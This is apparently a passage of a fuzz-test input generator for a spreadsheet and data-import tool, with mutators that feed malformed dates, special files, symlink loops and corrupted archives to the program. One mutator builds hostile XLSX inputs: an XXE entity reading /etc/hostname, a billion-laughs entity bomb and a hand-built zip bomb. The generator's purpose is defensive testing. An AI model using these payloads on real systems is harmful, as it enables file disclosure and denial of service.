      return submitCsv(r, 'times', 'csv time values', s, csvText(r, s.header, ls));
    },
    'ndjson-times': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const ls = slice(r, s, 1, 6).map((l) => l.replace(/"(\w+_at|date|period|dated|valid_until|kept_until|starts_at|ready_at)":"[^"]*"/, (_m, k: string) => `"${k}":${JSON.stringify(r.pick(TIMES))}`));
      return submitNdjson(r, 'times', 'ndjson time values', s, ls.join('\n') + '\n');
    },
    'xlsx-serials': (r, c) => {
      const s = xlsxSeed(c);
      const rows = slice(r, s, 1, 6).map((row) => {
        const cells = [...row.matchAll(/<c r="[HIJK]\d+" s="3"><v>[^<]*<\/v><\/c>/g)];
        if (!cells.length) return row;
        const m = r.pick(cells);
        const v = r.pick([...SERIALS, ...TIMES]);
        const rep = /^[-\d.e]+$/.test(v) ? m[0].replace(/<v>[^<]*<\/v>/, `<v>${v}</v>`) : m[0].replace(/ s="3"><v>[^<]*<\/v>/, ` t="str"><v>${xmlEsc(v)}</v>`);
        return row.slice(0, m.index) + rep + row.slice(m.index! + m[0].length);
      });
      return submitXlsx(r, 'times', 'xlsx serials and time text', xlsxBytes(c, rows));
    },
    'period-and-now': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const extra = r.chance(0.6) ? ['--period', r.pick(['0000-01', '9999-12', '0099-02', '2026-02', '2026-00', '2026-13', '10000-01', '-001-01', '2026-1'])] : [];
      const spec = submitNdjson(r, 'times', `--period ${extra[1] ?? ''} --now`, s, slice(r, s).join('\n') + '\n', { extra });
      if (r.chance(0.5)) {
        const i = spec.args.indexOf('--now');
        spec.args[i + 1] = r.pick(['0042-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '2026-02-30T00:00:00Z', '2026-07-10T24:00:00+08:00', '2026-07-10T09:00:00+25:00', 'now', '']);
      }
      return spec;
    },
    'calendar-zone': (r, c) => {
      const cal = c.yaml.find((y) => y.rel === 'school/calendar.yaml')!;
      const zone = r.pick(ZONES);
      const text = /^timezone:/m.test(cal.text) ? cal.text.replace(/^timezone:.*$/m, `timezone: ${JSON.stringify(zone)}`) : cal.text.replace(/^kind:.*$/m, (m) => `${m}\ntimezone: ${JSON.stringify(zone)}`);
      const s = r.pick(ndjsonSeeds(c));
      const ls = slice(r, s).map((l) => (r.chance(0.3) ? l.replace(/"(\w+_at)":"([^"]*)\+08:00"/, '"$1":"$2"') : l));
      return submitNdjson(r, 'times', `calendar timezone ${zone}`, s, ls.join('\n') + '\n', { tree: [file('school/calendar.yaml', text)] });
    },
    'yaml-dates': (r, c) => yamlInput(r, c, 'times', 'dates in yaml', (t, rr) => t.replace(/\b(\d{4})-(\d{2})-(\d{2})\b/g, (m) => (rr.chance(0.15) ? rr.pick(['0000-01-01', '0042-02-29', '2026-02-30', '2026-13-01', '9999-12-31', '2026-02-29', '10000-01-01', '2026-03-05T24:00', '2026-03-05T08:00+25:00']) : m))),
  },

  'file-types': {
    'data-special': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const ext = r.pick(['.csv', '.xlsx', '.ndjson', '.json']);
      const name = `data${ext}`;
      const op = r.pick(['folder', 'fifo', 'empty', 'symlink-loop', 'self-link', 'dangling-link', 'dev-null', 'dev-zero', 'dir-link', 'proc-file']);
      const e: Entry =
        op === 'folder' ? { rel: name, type: 'dir' }
        : op === 'fifo' ? { rel: name, type: 'fifo' }
        : op === 'empty' ? file(name, '')
        : op === 'symlink-loop' ? { rel: name, type: 'symlink', target: `other${ext}` }
        : op === 'self-link' ? { rel: name, type: 'symlink', target: name }
        : op === 'dangling-link' ? { rel: name, type: 'symlink', target: 'nowhere/at/all' }
        : op === 'dev-null' ? { rel: name, type: 'symlink', target: '/dev/null' }
        : op === 'dev-zero' ? { rel: name, type: 'symlink', target: '/dev/zero' }
        : op === 'dir-link' ? { rel: name, type: 'symlink', target: '/tmp' }
        : { rel: name, type: 'symlink', target: '/proc/self/status' };
      const work = op === 'symlink-loop' ? [{ rel: `other${ext}`, type: 'symlink', target: name } as Entry] : [];
      return submitSpec(r, 'file-types', `data file: ${op} (${ext})`, name, e, s.kind, { work });
    },
    'xlsx-broken': (r, c) => {
      const s = xlsxSeed(c);
      const good = xlsxBytes(c, slice(r, s));
      const op = r.pick(['csv-as-xlsx', 'random-bytes', 'truncated', 'no-workbook', 'not-xml', 'empty-zip', 'stored', 'dtd-entity', 'entity-bomb', 'external-entity', 'zip-bomb', 'formula-no-value']);
      let bytes: Uint8Array;
      if (op === 'csv-as-xlsx') bytes = utf8(tabular(c)[0]!.header + '\n' + tabular(c)[0]!.lines[0]);
      else if (op === 'random-bytes') bytes = Uint8Array.from({ length: r.int(1, 4096) }, () => r.int(0, 255));
      else if (op === 'truncated') bytes = good.subarray(0, r.int(1, good.length - 1));
      else if (op === 'no-workbook') bytes = writeZip(c.xlsx.entries.filter((e) => e.name !== 'xl/workbook.xml'));
      else if (op === 'not-xml') bytes = xlsxBytes(c, slice(r, s), { sheet: (x) => x.slice(0, r.int(0, x.length)) });
      else if (op === 'empty-zip') bytes = writeZip([]);
      else if (op === 'stored') bytes = xlsxBytes(c, slice(r, s), { store: true });
      else if (op === 'dtd-entity') bytes = xlsxBytes(c, slice(r, s), { sheet: (x) => x.replace('?>', '?><!DOCTYPE worksheet [<!ENTITY e "entity text">]>').replace(/<v>WO-[^<]*<\/v>/, '<v>&e;</v>') });
      else if (op === 'entity-bomb') {
        let dtd = '<!ENTITY l0 "lol">';
        for (let i = 1; i <= 10; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
        bytes = xlsxBytes(c, slice(r, s), { sheet: (x) => x.replace('?>', `?><!DOCTYPE worksheet [${dtd}]>`).replace(/<v>WO-[^<]*<\/v>/, '<v>&l10;</v>') });
      } else if (op === 'external-entity') bytes = xlsxBytes(c, slice(r, s), { sheet: (x) => x.replace('?>', '?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>').replace(/<v>WO-[^<]*<\/v>/, '<v>&x;</v>') });
      else if (op === 'zip-bomb') bytes = zipBomb(c, r.pick([64, 256]));
      else bytes = xlsxBytes(c, slice(r, s), { sheet: (x) => x.replace(/<c r="(H\d+)" s="3"><v>[^<]*<\/v><\/c>/, '<c r="$1" s="3"><f>NOW()+A1</f></c>') });
      return submitXlsx(r, 'file-types', `xlsx: ${op}`, bytes);
    },
    'wrong-extension': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const op = r.int(0, 2);
      if (op === 0) return submitSpec(r, 'file-types', 'ndjson named .csv', 'data.csv', file('data.csv', slice(r, s).join('\n') + '\n'), s.kind);
      if (op === 1) return submitSpec(r, 'file-types', 'xlsx named .csv', 'data.csv', file('data.csv', xlsxBytes(c, slice(r, xlsxSeed(c)))), 'work-orders');
      return submitSpec(r, 'file-types', 'csv named .json', 'data.json', file('data.json', csvText(r, tabular(c)[0]!.header, slice(r, tabular(c)[0]!))), 'work-orders');
    },
    'mapping-special': (r, c) => {
      const s = tabular(c).find((d) => d.mapping)!;
      const op = r.pick(['folder', 'binary', 'json', 'empty', 'fifo', 'csv']);
      const m: Entry = op === 'folder' ? { rel: 'm.yaml', type: 'dir' } : op === 'fifo' ? { rel: 'm.yaml', type: 'fifo' } : file('m.yaml', op === 'binary' ? Uint8Array.from({ length: 300 }, () => r.int(0, 255)) : op === 'json' ? '{"kind":"mapping","id":"x","columns":[]}' : op === 'csv' ? s.header : '');
      return submitCsv(r, 'file-types', `--mapping ${op}`, s, csvText(r, s.header, slice(r, s)), { mapping: '{work}/m.yaml', work: [m] });
    },
    'store-special': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const op = r.pick(['folder', 'text-file', 'under-a-file', 'empty-file', 'truncated', 'fifo']);
      const spec = submitNdjson(r, 'file-types', `--db ${op}`, s, slice(r, s).join('\n') + '\n', { freshDb: true });
      const db: Entry | null =
        op === 'folder' ? { rel: 'db/charter.sqlite', type: 'dir' }
        : op === 'text-file' ? file('db/charter.sqlite', 'this is not a database\n')
        : op === 'under-a-file' ? file('db', 'a file where a folder should be')
        : op === 'empty-file' ? file('db/charter.sqlite', '')
        : op === 'truncated' ? file('db/charter.sqlite', Uint8Array.from({ length: 4096 }, (_, i) => (i < 16 ? 'SQLite format 3\0'.charCodeAt(i) : r.int(0, 255))))
        : { rel: 'db/charter.sqlite', type: 'fifo' };
      spec.entries.push({ root: 'work', entry: db });
      return spec;
    },
    'rejects-special': (r, c) => {
      const s = r.pick(tabular(c));
      const ls = slice(r, s, 2, 6);
      ls[0] = ls[0]!.replace(/,[^,]*,/, ',nobody,');
      const spec = submitCsv(r, 'file-types', '--rejects is a file', s, csvText(r, s.header, ls), { accept: true });
      spec.entries.push({ root: 'work', entry: file('rejects', 'a file where the rejects folder should be') });
      return spec;
    },
    'tree-special': (r, c) => {
      const y = pickYaml(r, c, (rel) => !rel.startsWith('tests/'));
      const op = r.pick(['folder', 'fifo', 'empty', 'binary', 'loop-dir', 'loop-file', 'root-link', 'proc-link', 'dev-zero']);
      const e: Entry[] =
        op === 'folder' ? [{ rel: y.rel, type: 'dir' }, file(`${y.rel}/inner.yaml`, y.text)]
        : op === 'fifo' ? [{ rel: y.rel, type: 'fifo' }]
        : op === 'empty' ? [file(y.rel, '')]
        : op === 'binary' ? [file(y.rel, Uint8Array.from({ length: 512 }, () => r.int(0, 255)))]
        : op === 'loop-dir' ? [{ rel: 'loop', type: 'symlink', target: '.' }]
        : op === 'loop-file' ? [{ rel: 'a.yaml', type: 'symlink', target: 'b.yaml' }, { rel: 'b.yaml', type: 'symlink', target: 'a.yaml' }]
        : op === 'root-link' ? [{ rel: 'root', type: 'symlink', target: '/' }]
        : op === 'proc-link' ? [{ rel: 'proc', type: 'symlink', target: '/proc/self' }]
        : [{ rel: y.rel, type: 'symlink', target: '/dev/zero' }];
      const spec = validateSpec(r, 'file-types', `tree: ${op}`, e, e[0]!.rel);
      // Walking a folder (loops, links out of the tree) is what the tree command does.
      if (/link|loop/.test(op) && op !== 'loop-file') {
        spec.args = spec.args.filter((a) => !a.startsWith('{tree}/') && a !== '--tree' && a !== '{tree}');
        spec.cwdTree = true;
      }
      return spec;
    },
  },
};

const bombs = new Map<number, Uint8Array>();
/** An XLSX whose sheet is `mb` MB of XML deflated to a few hundred KB. */
function zipBomb(c: Corpus, mb: number): Uint8Array {
  let b = bombs.get(mb);
  if (!b) {
    const row = xlsxSeed(c).lines[0]!;
    const filler = Buffer.alloc(mb << 20, ' ');
    const head = Buffer.from(c.xlsx.before + c.xlsx.headerRows + row);
    const tail = Buffer.from(c.xlsx.after);
    const sheet = deflateRawSync(Buffer.concat([head, filler, tail]), { level: 9 });
    // Assemble by hand: writeZip would deflate the whole inflated sheet again.
    const entries = c.xlsx.entries.filter((e) => e.name !== 'xl/worksheets/sheet1.xml');
    const inner = writeZip([...entries, { name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(0) }]);
    b = patchEntry(inner, 'xl/worksheets/sheet1.xml', sheet, head.length + filler.length + tail.length, crcOf([head, filler, tail]));
    bombs.set(mb, b);
  }
  return b;
}


function crcOf(parts: Buffer[]): number {
  let crc = 0;
  for (const p of parts) crc = crc32(p, crc);
  return crc >>> 0;
}

/** Rebuild a zip with one entry's compressed data and sizes replaced (the entry must be last). */
function patchEntry(zip: Buffer, name: string, comp: Buffer, size: number, crc: number): Uint8Array {
  const eocd = zip.length - 22;
  const cdOff = zip.readUInt32LE(eocd + 16);
  const cdLen = zip.readUInt32LE(eocd + 12);
  const cd = Buffer.from(zip.subarray(cdOff, cdOff + cdLen));
  // Find the last entry's central header.
  let p = 0;
  let last = 0;
  while (p < cd.length) {
    last = p;
    p += 46 + cd.readUInt16LE(p + 28) + cd.readUInt16LE(p + 30) + cd.readUInt16LE(p + 32);
  }
  const localOff = cd.readUInt32LE(last + 42);
  const nameLen = cd.readUInt16LE(last + 28);
  if (cd.subarray(last + 46, last + 46 + nameLen).toString() !== name) throw new Error('patchEntry: entry is not last');
  const lh = Buffer.from(zip.subarray(localOff, localOff + 30 + nameLen));
  lh.writeUInt16LE(8, 8);
  lh.writeUInt32LE(crc, 14);
  lh.writeUInt32LE(comp.length, 18);
  lh.writeUInt32LE(size, 22);
  cd.writeUInt16LE(8, last + 10);
  cd.writeUInt32LE(crc, last + 16);
  cd.writeUInt32LE(comp.length, last + 20);
  cd.writeUInt32LE(size, last + 24);
  const end = Buffer.from(zip.subarray(eocd));
  end.writeUInt32LE(localOff + lh.length + comp.length, 16);
  return Buffer.concat([zip.subarray(0, localOff), lh, comp, cd, end]);
}

export const MUTATORS = CLASS_MUTATORS;

/** Input number `index` of a run: its class (round robin over the chosen classes) and its mutation. */
export function generate(seed: number, index: number, classes: readonly ClassName[], corpus: Corpus): Spec {
  const cls = classes[index % classes.length]!;
  const r = new Rng(inputSeed(seed, index));
  const ms = Object.values(CLASS_MUTATORS[cls]);
  return r.pick(ms)(r, corpus);
}

export { CLASSES };
